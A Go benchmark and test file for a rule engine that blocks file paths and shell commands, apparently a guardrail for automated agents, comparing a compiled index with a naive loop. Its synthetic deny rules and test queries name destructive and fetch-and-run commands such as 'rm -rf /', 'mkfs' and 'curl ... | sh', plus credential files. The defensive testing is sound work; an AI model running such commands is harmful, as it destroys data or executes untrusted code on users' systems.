package boundary

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/bmatcuk/doublestar/v4"

	"github.com/wardenhq/warden/action"
)

// The workload of shared/design/PERFORMANCE-ANCHORS.md, "hard blocks over paths": rules
// generated with a fixed seed, 30% exact (/srv/app/<w>/<w><i>.conf), 30% prefix
// (/srv/data/<w>/<w><i>/), 25% glob (/home/*/<w>/**/*.key, **/<w>.env, /srv/*/<w>/*.pem,
// /var/lib/<w>/**), 10% contains (<w><i>secret), 5% regex (^/var/log/<w><i>-[0-9]+\.log$);
// 64 queries {path, op}, half matching a rule and half ordinary work that matches none.
//
// What the anchors leave open is fixed here: <w> is drawn from the 64 words below, <i> is
// the rule's number, each rule blocks a random non-empty subset of the five operations
// (each with probability 0.4), the mix is exact (10 rules: 3/3/2/1/1) and shuffled, and a
// matching query picks a random rule, one of its operations and a path it matches.

var benchWords = []string{
	"alpha", "billing", "cache", "deploy", "edge", "forms", "gateway", "hooks", "ingest",
	"jobs", "kafka", "ledger", "mailer", "notify", "orders", "payments", "queue", "reports",
	"search", "tenant", "users", "vault", "webhook", "xray", "yard", "zones", "audit", "batch",
	"config", "dns", "events", "feeds", "graph", "health", "images", "jira", "keys", "logs",
	"metrics", "nodes", "oauth", "pipeline", "quota", "redis", "sessions", "tokens", "upload",
	"video", "worker", "export", "analytics", "backup", "catalog", "docs", "email", "files",
	"geo", "http", "invoice", "journal", "kiosk", "lambda", "media", "network",
}

type benchQuery struct {
	op   action.Op
	path string
}

// benchKinds are the rule kinds, with their share in percent.
var benchKinds = []struct {
	match string
	share int
}{{MatchExact, 30}, {MatchPrefix, 30}, {MatchGlob, 25}, {MatchContains, 10}, {MatchRegex, 5}}

func benchWorkload(n int) (*Document, []benchQuery) {
	r := rand.New(rand.NewPCG(20260101, 64))
	word := func() string { return benchWords[r.IntN(len(benchWords))] }

	// The exact mix: shares rounded down, the rest to the kinds furthest below their share.
	counts := make([]int, len(benchKinds))
	total := 0
	for k, kind := range benchKinds {
		counts[k] = n * kind.share / 100
		total += counts[k]
	}
	for ; total < n; total++ {
		best := 0
		for k := range benchKinds {
			dk := n*benchKinds[k].share - 100*counts[k]
			db := n*benchKinds[best].share - 100*counts[best]
			if dk >= db {
				best = k
			}
		}
		counts[best]++
	}
	var deck []string
	for k, kind := range benchKinds {
		for range counts[k] {
			deck = append(deck, kind.match)
		}
	}
	r.Shuffle(len(deck), func(i, j int) { deck[i], deck[j] = deck[j], deck[i] })

	d := &Document{Version: 1}
	for i, match := range deck {
		rule := Rule{ID: fmt.Sprint("rule-", i), Enabled: true, Type: TypePath, Match: match}
		for _, op := range action.Ops {
			if r.Float64() < 0.4 {
				rule.Operations = append(rule.Operations, string(op))
			}
		}
		if len(rule.Operations) == 0 {
			rule.Operations = []string{string(action.Ops[r.IntN(len(action.Ops))])}
		}
		switch match {
		case MatchExact:
			rule.Pattern = fmt.Sprintf("/srv/app/%s/%s%d.conf", word(), word(), i)
		case MatchPrefix:
			rule.Pattern = fmt.Sprintf("/srv/data/%s/%s%d/", word(), word(), i)
		case MatchGlob:
			rule.Pattern = fmt.Sprintf([]string{"/home/*/%s/**/*.key", "**/%s.env", "/srv/*/%s/*.pem", "/var/lib/%s/**"}[r.IntN(4)], word())
		case MatchContains:
			rule.Pattern = fmt.Sprintf("%s%dsecret", word(), i)
		case MatchRegex:
			rule.Pattern = fmt.Sprintf(`^/var/log/%s%d-[0-9]+\.log$`, word(), i)
		}
		d.HardBlocks = append(d.HardBlocks, rule)
	}

	ref := newNaive(d, "")
	var queries []benchQuery
	for len(queries) < 64 {
		// A query that matches a rule.
		rule := d.HardBlocks[r.IntN(len(d.HardBlocks))]
		op := action.Op(rule.Operations[r.IntN(len(rule.Operations))])
		var p string
		switch rule.Match {
		case MatchExact:
			p = rule.Pattern
		case MatchPrefix:
			p = rule.Pattern + word() + ".txt"
		case MatchGlob:
			p = strings.NewReplacer("/**/", "/"+word()+"/", "/**", "/"+word()+"/data", "**/", "/srv/site/", "*.", "id.", "*", word()).Replace(rule.Pattern)
		case MatchContains:
			p = "/tmp/" + rule.Pattern + ".txt"
		case MatchRegex:
			p = strings.NewReplacer("^", "", `-[0-9]+\.log$`, fmt.Sprintf("-%d.log", r.IntN(1000))).Replace(rule.Pattern)
		}
		if len(ref.path(op, p, false)) == 0 {
			panic("benchmark query " + p + " matches nothing")
		}
		queries = append(queries, benchQuery{op, p})

		// Ordinary work, matching nothing.
		for {
			p = []string{
				"/work/repo/src/main.go",
				"/work/repo/src/" + word() + ".go",
				"/work/repo/internal/" + word() + "/" + word() + ".go",
				"/work/repo/cmd/" + word() + "/main.go",
				"/work/repo/docs/" + word() + ".md",
				"/work/repo/" + word() + "/" + word() + "_test.go",
			}[r.IntN(6)]
			op = action.Ops[r.IntN(len(action.Ops))]
			if len(ref.path(op, p, false)) == 0 {
				break
			}
		}
		queries = append(queries, benchQuery{op, p})
	}
	return d, queries
}

// benchNaive is the loop the anchors measured: every rule in turn, doublestar for globs,
// regexes compiled beforehand.
type benchNaive struct {
	rules []benchNaiveRule
}

type benchNaiveRule struct {
	rule  *Rule
	ops   uint8
	match string
	pat   string
	re    *regexp.Regexp
}

func newBenchNaive(d *Document) *benchNaive {
	n := &benchNaive{}
	for i := range d.HardBlocks {
		r := &d.HardBlocks[i]
		nr := benchNaiveRule{rule: r, match: r.Match, pat: r.Pattern}
		for _, op := range r.Operations {
			nr.ops |= 1 << opSlot(action.Op(op))
		}
		if r.Match == MatchRegex {
			nr.re = regexp.MustCompile(r.Pattern)
		}
		n.rules = append(n.rules, nr)
	}
	return n
}

func (n *benchNaive) check(op action.Op, path string, hits []Hit) []Hit {
	bit := uint8(1) << opSlot(op)
	for i := range n.rules {
		r := &n.rules[i]
		if r.ops&bit == 0 {
			continue
		}
		var m bool
		switch r.match {
		case MatchExact:
			m = path == r.pat
		case MatchPrefix:
			m = strings.HasPrefix(path, r.pat)
		case MatchGlob:
			m, _ = doublestar.Match(r.pat, path)
		case MatchRegex:
			m = r.re.MatchString(path)
		case MatchContains:
			m = strings.Contains(path, r.pat)
		}
		if m {
			hits = append(hits, Hit{r.rule, path})
		}
	}
	return hits
}

var benchSizes = []int{10, 1000, 10000}

// BenchmarkCheckPath is one decision per op, cycling through the 64 queries.
func BenchmarkCheckPath(b *testing.B) {
	for _, n := range benchSizes {
		d, queries := benchWorkload(n)
		s, err := Compile(d, Options{})
		if err != nil {
			b.Fatal(err)
		}
		b.Run(fmt.Sprint("rules=", n), func(b *testing.B) {
			b.ReportAllocs()
			hits := make([]Hit, 0, 64)
			for i := 0; b.Loop(); i++ {
				q := queries[i&63]
				hits = s.CheckPath(q.op, q.path, false, hits[:0])
			}
		})
	}
}

// BenchmarkCheckPathAllow is the allow path alone: the 32 ordinary queries.
func BenchmarkCheckPathAllow(b *testing.B) {
	for _, n := range benchSizes {
		d, queries := benchWorkload(n)
		s, err := Compile(d, Options{})
		if err != nil {
			b.Fatal(err)
		}
		var allow []benchQuery
		for i := 1; i < len(queries); i += 2 {
			allow = append(allow, queries[i])
		}
		b.Run(fmt.Sprint("rules=", n), func(b *testing.B) {
			b.ReportAllocs()
			var hits []Hit
			for i := 0; b.Loop(); i++ {
				q := allow[i&31]
				hits = s.CheckPath(q.op, q.path, false, hits[:0])
			}
		})
	}
}

// BenchmarkNaive is the same decisions by the loop over every rule, for comparison.
func BenchmarkNaive(b *testing.B) {
	for _, n := range benchSizes {
		d, queries := benchWorkload(n)
		nv := newBenchNaive(d)
		b.Run(fmt.Sprint("rules=", n), func(b *testing.B) {
			b.ReportAllocs()
			hits := make([]Hit, 0, 64)
			for i := 0; b.Loop(); i++ {
				q := queries[i&63]
				hits = nv.check(q.op, q.path, hits[:0])
			}
		})
	}
}

// BenchmarkCompile is the one-off cost of building the index.
func BenchmarkCompile(b *testing.B) {
	for _, n := range benchSizes {
		d, _ := benchWorkload(n)
		b.Run(fmt.Sprint("rules=", n), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if _, err := Compile(d, Options{}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// TestBenchWorkload checks the workload is what the anchors describe, and that the index and
// both loops agree on it.
func TestBenchWorkload(t *testing.T) {
	for _, n := range benchSizes {
		d, queries := benchWorkload(n)
		count := map[string]int{}
		for _, r := range d.HardBlocks {
			count[r.Match]++
		}
		if n >= 1000 {
			for _, k := range benchKinds {
				if count[k.match] != n*k.share/100 {
					t.Errorf("rules=%d: %d %s rules, want %d%%", n, count[k.match], k.match, k.share)
				}
			}
		} else if len(count) != len(benchKinds) {
			t.Errorf("rules=%d: kinds %v, want all five", n, count)
		}
		s, err := Compile(d, Options{})
		if err != nil {
			t.Fatal(err)
		}
		ref, loop := newNaive(d, ""), newBenchNaive(d)
		matching := 0
		for i, q := range queries {
			got := hitIDs(s.CheckPath(q.op, q.path, false, nil))
			want := ref.path(q.op, q.path, false)
			if !slices.Equal(got, want) || !slices.Equal(hitIDs(loop.check(q.op, q.path, nil)), want) {
				t.Errorf("rules=%d: %s %s: index %v, naive %v", n, q.op, q.path, got, want)
			}
			if (len(want) > 0) != (i%2 == 0) {
				t.Errorf("rules=%d: query %d (%s %s) hits %v", n, i, q.op, q.path, want)
			}
			if len(want) > 0 {
				matching++
			}
		}
		if len(queries) != 64 || matching != 32 {
			t.Errorf("rules=%d: %d queries, %d matching; want 64 and 32", n, len(queries), matching)
		}
	}
}

// raceEnabled is set by race_test.go.
var raceEnabled bool

// TestAllowPathDoesNotAllocate: a check that matches nothing allocates nothing.
func TestAllowPathDoesNotAllocate(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts are meaningless under the race detector")
	}
	d, queries := benchWorkload(1000)
	d.HardBlocks = append(d.HardBlocks,
		Rule{ID: "c1", Enabled: true, Type: TypeCommand, Match: MatchGlob, Pattern: "curl * | sh", Operations: []string{"execute"}},
		Rule{ID: "c2", Enabled: true, Type: TypeCommand, Match: MatchPrefix, Pattern: "rm -rf /", Operations: []string{"execute"}},
		Rule{ID: "c3", Enabled: true, Type: TypeCommand, Match: MatchRegex, Pattern: `(?i)mkfs`, Operations: []string{"execute"}},
	)
	s, err := Compile(d, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i < len(queries); i += 2 {
		q := queries[i]
		allocs := testing.AllocsPerRun(20, func() {
			if hits := s.CheckPath(q.op, q.path, false, nil); len(hits) != 0 {
				t.Fatalf("%s %s hits %v", q.op, q.path, hitIDs(hits))
			}
		})
		if allocs != 0 {
			t.Errorf("CheckPath(%s, %s) allocates %v times", q.op, q.path, allocs)
		}
	}
	norm := []string{"go test ./..."}
	if allocs := testing.AllocsPerRun(20, func() { s.CheckCommand("go test ./...", norm, nil) }); allocs != 0 {
		t.Errorf("CheckCommand allocates %v times", allocs)
	}
}

// commandWorkload is n command rules in the same mix (exact, prefix, glob, contains,
// regex), and 64 commands of about 200 characters, each with its simple commands in
// normalised form: half hit a rule, half are ordinary work.
func commandWorkload(n int) (*Set, [][]string) {
	r := rand.New(rand.NewPCG(20260101, 200))
	word := func() string { return benchWords[r.IntN(len(benchWords))] }
	d := &Document{Version: 1}
	var targets []string
	for i := range n {
		w := fmt.Sprint(word(), i)
		rule := Rule{ID: fmt.Sprint("cmd-", i), Enabled: true, Type: TypeCommand, Operations: []string{"execute"}}
		switch x := r.IntN(100); {
		case x < 30:
			rule.Match, rule.Pattern = MatchExact, "rm -rf /srv/"+w
			targets = append(targets, rule.Pattern)
		case x < 60:
			rule.Match, rule.Pattern = MatchPrefix, "git push "+w
			targets = append(targets, rule.Pattern+" --force")
		case x < 85:
			rule.Match, rule.Pattern = MatchGlob, "curl *"+w+"* | sh"
			targets = append(targets, "curl -fsSL https://"+w+".example/i.sh | sh")
		case x < 95:
			rule.Match, rule.Pattern = MatchContains, w+"-token"
			targets = append(targets, "echo "+w+"-token")
		default:
			rule.Match, rule.Pattern = MatchRegex, `^docker run .*--name `+w+`\b`
			targets = append(targets, "docker run -d --name "+w+" nginx")
		}
		d.HardBlocks = append(d.HardBlocks, rule)
	}
	s, err := Compile(d, Options{})
	if err != nil {
		panic(err)
	}
	ordinary := []string{"go test ./...", "git status --short", "ls -la /work/repo/src", "grep -rn TODO internal", "go vet ./...", "make build"}
	var queries [][]string // raw text, then the simple commands
	for len(queries) < 64 {
		var parts []string
		if len(queries)%2 == 0 {
			parts = append(parts, targets[r.IntN(len(targets))])
		}
		for len(strings.Join(parts, " && ")) < 200 {
			parts = append(parts, ordinary[r.IntN(len(ordinary))])
		}
		r.Shuffle(len(parts), func(i, j int) { parts[i], parts[j] = parts[j], parts[i] })
		queries = append(queries, append([]string{strings.Join(parts, " && ")}, parts...))
	}
	return s, queries
}

// BenchmarkCheckCommand is one decision per op: a 200-character command and its simple
// commands against n command rules.
func BenchmarkCheckCommand(b *testing.B) {
	for _, n := range benchSizes {
		s, queries := commandWorkload(n)
		b.Run(fmt.Sprint("rules=", n), func(b *testing.B) {
			b.ReportAllocs()
			hits := make([]Hit, 0, 64)
			for i := 0; b.Loop(); i++ {
				q := queries[i&63]
				hits = s.CheckCommand(q[0], q[1:], hits[:0])
			}
		})
	}
}
